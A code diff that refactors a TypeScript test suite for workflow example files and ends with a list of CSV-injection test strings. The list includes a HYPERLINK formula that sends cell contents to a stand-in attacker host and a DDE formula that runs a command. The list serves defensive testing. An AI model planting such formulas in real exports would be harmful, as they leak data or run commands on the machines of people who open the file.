@@ -11,27 +11,24 @@ import { hold, STORIES } from './stories';
 const keyOf = (found: unknown) => String((found as Row)['name'] ?? found);
 const sorted = (all: unknown[]) => [...all].sort((a, b) => (keyOf(a) < keyOf(b) ? -1 : 1));
 
-it.each(STORIES)(
-	'$file writes what each step brings',
-	async ({ file, node: last, trigger, projects, read, steps }) => {
-		hold(projects);
-		const draft = await example(file, { [last]: standIn });
-		const workflow = trigger ? undefined : await stage.publish(draft);
-		for (const [act, ...expected] of steps) {
-			// A project created in the second in which the trigger began counts as existing.
-			await sleep(1_000);
-			act();
-			const found: unknown[] = [];
-			// Two polls may find what happens in one step.
-			while (found.length < expected.length) {
-				const execution = await (workflow ? stage.next(workflow) : stage.run(draft, trigger));
-				found.push(...read(rowsOf(execution, last)));
-			}
-			expect(sorted(found)).toMatchObject(expected);
+it.each(STORIES)('$file', async ({ file, node: last, trigger, projects, read, steps }) => {
+	hold(projects);
+	const draft = await example(file, { [last]: standIn });
+	const workflow = trigger ? undefined : await stage.publish(draft);
+	for (const [act, ...expected] of steps) {
+		// What is created in the second in which the trigger began counts as existing.
+		await sleep(1_000);
+		act();
+		const found: unknown[] = [];
+		// What happens at once may be found by two polls.
+		while (found.length < expected.length) {
+			const execution = await (workflow ? stage.next(workflow) : stage.run(draft, trigger));
+			found.push(...read(rowsOf(execution, last)));
 		}
-		if (workflow) await stage.unpublish(workflow);
-	},
-);
+		expect(sorted(found)).toMatchObject(expected);
+	}
+	if (workflow) await stage.unpublish(workflow);
+});
 
 it('sync-projects-to-data-table.json makes and fills the table, then keeps it', async () => {
 	hold([{ name: 'A' }, { name: 'B', updated_at: '2026-01-01T00:00:00Z' }, { name: 'C' }]);
@@ -57,7 +54,7 @@ it('sync-projects-to-data-table.json makes and fills the table, then keeps it', 
 	expect(others).toMatchObject([{ name: 'C' }, { name: 'D' }]);
 });
 
-/** A spreadsheet program takes these for formulas (OWASP, "CSV Injection"). */
+/** What a spreadsheet program takes for a formula (OWASP, "CSV Injection"). */
 const FORMULAS = [
 	...['=HYPERLINK("https://evil.test/?"&A1,"Open")', '+1+1', '-1+1', '@SUM(1,1)'],
 	...["=cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '\n=1+1'],
